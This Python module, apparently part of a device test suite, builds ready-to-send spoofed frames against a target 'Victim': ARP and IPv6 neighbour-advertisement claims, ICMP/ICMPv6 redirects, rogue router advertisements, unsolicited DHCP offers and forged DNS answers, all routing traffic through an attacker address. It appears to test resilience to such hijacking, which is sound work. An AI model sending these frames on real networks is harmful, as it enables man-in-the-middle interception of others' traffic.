"""What a hostile network says to a box to draw its traffic elsewhere: frames, ready to be sent.

Each is what its protocol asks for, addressed to this very box; only the intent is bad.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from ipaddress import IPv4Address, IPv6Address
from typing import Final

from hil.net import forge

EVIL_MAC: Final = forge.mac("02:66:66:66:66:66")
EVIL4, EVIL6 = "192.0.2.66", "fe80::66:66ff:fe66:6666"
_DAY_S: Final = 86400
# RFC 4861 4, RFC 4191 2.3, RFC 8106 5.1
_ADVERTISEMENT_OF_ROUTER, _ADVERTISEMENT, _REDIRECT6 = 134, 136, 137
_OVERRIDE: Final = 0x20000000
_OF_SOURCE, _OF_TARGET, _PREFIX, _MTU, _ROUTE, _RDNSS = 1, 2, 3, 5, 24, 25
# RFC 792, RFC 2131, RFC 2132, RFC 3442
_REDIRECT4: Final = (5, 1)
_COOKIE: Final = bytes((99, 130, 83, 99))


@dataclass(frozen=True, slots=True)
class Victim:
    """The box on its wire."""

    mac: bytes
    address4: str
    address6: str


def claimed(victim: Victim, address: str) -> bytes:
    """ARP: `address` is mine."""
    answer = forge.arp(2, (EVIL_MAC, address), (victim.mac, victim.address4))
    return forge.ethernet(victim.mac, EVIL_MAC, forge.ARP, answer)


def claimed6(victim: Victim, address: str) -> bytes:
    """Neighbour discovery: `address` is mine, whatever was said before."""
    rest = struct.pack("!I", _OVERRIDE) + IPv6Address(address).packed
    rest += _option(_OF_TARGET, EVIL_MAC)
    return _icmp6(victim, address, _ADVERTISEMENT, rest)


def redirected(victim: Victim, router: str, destination: str) -> bytes:
    """ICMP, in the name of `router`: the way to `destination` is through me."""
    quoted = forge.ipv4(victim.address4, destination, forge.UDP, bytes(8))
    message = forge.icmp(*_REDIRECT4, IPv4Address(EVIL4).packed + quoted)
    packet = forge.ipv4(router, victim.address4, forge.ICMP, message)
    return forge.ethernet(victim.mac, EVIL_MAC, forge.IPV4, packet)


def redirected6(victim: Victim, destination: str) -> bytes:
    """ICMPv6: the way to `destination` is through me."""
    rest = bytes(4) + IPv6Address(EVIL6).packed + IPv6Address(destination).packed
    return _icmp6(victim, EVIL6, _REDIRECT6, rest + _option(_OF_TARGET, EVIL_MAC))


def router_advertised(victim: Victim) -> bytes:
    """I am the router, with addresses for you, two routes, a name server and a tiny MTU."""
    rest = struct.pack("!BBHII", 64, 0, _DAY_S // 24, 0, 0)
    rest += _option(_OF_SOURCE, EVIL_MAC)
    lifetimes = struct.pack("!IIxxxx", _DAY_S, _DAY_S)
    prefix = IPv6Address("2001:db8:66::").packed
    rest += _option(_PREFIX, bytes((64, 0xC0)) + lifetimes + prefix)
    for network, bits in (("2001:db8:2::", 64), ("fd77::", 16)):
        route = bytes((bits, 0x08)) + struct.pack("!I", _DAY_S) + IPv6Address(network).packed
        rest += _option(_ROUTE, route)
    rest += _option(_RDNSS, bytes(2) + struct.pack("!I", _DAY_S) + IPv6Address(EVIL6).packed)
    rest += _option(_MTU, struct.pack("!HI", 0, 1280))
    return _icmp6(victim, EVIL6, _ADVERTISEMENT_OF_ROUTER, rest, to="ff02::1")


def leased(victim: Victim, kind: int, routes: dict[str, str]) -> bytes:
    """DHCP: an offer (2) or an acknowledgement (5) nobody asked for, with `routes` through me."""
    options = bytes((53, 1, kind)) + _dhcp(54, IPv4Address(EVIL4).packed)
    options += _dhcp(51, struct.pack("!I", _DAY_S)) + _dhcp(3, IPv4Address(EVIL4).packed)
    options += _dhcp(6, IPv4Address(EVIL4).packed)
    ways = b"".join(_classless(*each) for each in routes.items())
    options += _dhcp(121, ways) + b"\xff"
    yours = IPv4Address(victim.address4).packed
    head = struct.pack("!BBBBIHH4s4s", 2, 1, 6, 0, 0x66666666, 0, 0x8000, bytes(4), yours)
    payload = (head + bytes(8) + victim.mac).ljust(236, b"\0") + _COOKIE + options
    return _udp(victim, (EVIL4, 67), 68, payload)


def name_answered(victim: Victim, server: str, port: int) -> bytes:
    """DNS, in the name of `server`: centre.test is me."""
    name = b"\x06centre\x04test\x00" + struct.pack("!HH", 1, 1)
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, _DAY_S, 4) + IPv4Address(EVIL4).packed
    payload = struct.pack("!HHHHHH", 0x6666, 0x8180, 1, 1, 0, 0) + name + answer
    return _udp(victim, (server, 53), port, payload)


def _udp(victim: Victim, source: tuple[str, int], port: int, payload: bytes) -> bytes:
    datagram = forge.udp(source, (victim.address4, port), payload)
    packet = forge.ipv4(source[0], victim.address4, forge.UDP, datagram)
    return forge.ethernet(victim.mac, EVIL_MAC, forge.IPV4, packet)


def _icmp6(victim: Victim, source: str, kind: int, rest: bytes, to: str = "") -> bytes:
    to = to or victim.address6
    packet = forge.ipv6(source, to, forge.ICMP6, forge.icmp6(source, to, kind, rest))
    return forge.ethernet(victim.mac, EVIL_MAC, forge.IPV6, packet)


def _option(kind: int, content: bytes) -> bytes:
    """RFC 4861 4.6."""
    assert (len(content) + 2) % 8 == 0
    return bytes((kind, (len(content) + 2) // 8)) + content


def _dhcp(kind: int, content: bytes) -> bytes:
    """RFC 2132 2."""
    return bytes((kind, len(content))) + content


def _classless(network: str, router: str) -> bytes:
    """RFC 3442: the prefix's length, so many of its bytes, the router."""
    address, _, bits = network.partition("/")
    significant = (int(bits) + 7) // 8
    packed = IPv4Address(address).packed[:significant]
    return bytes((int(bits),)) + packed + IPv4Address(router).packed
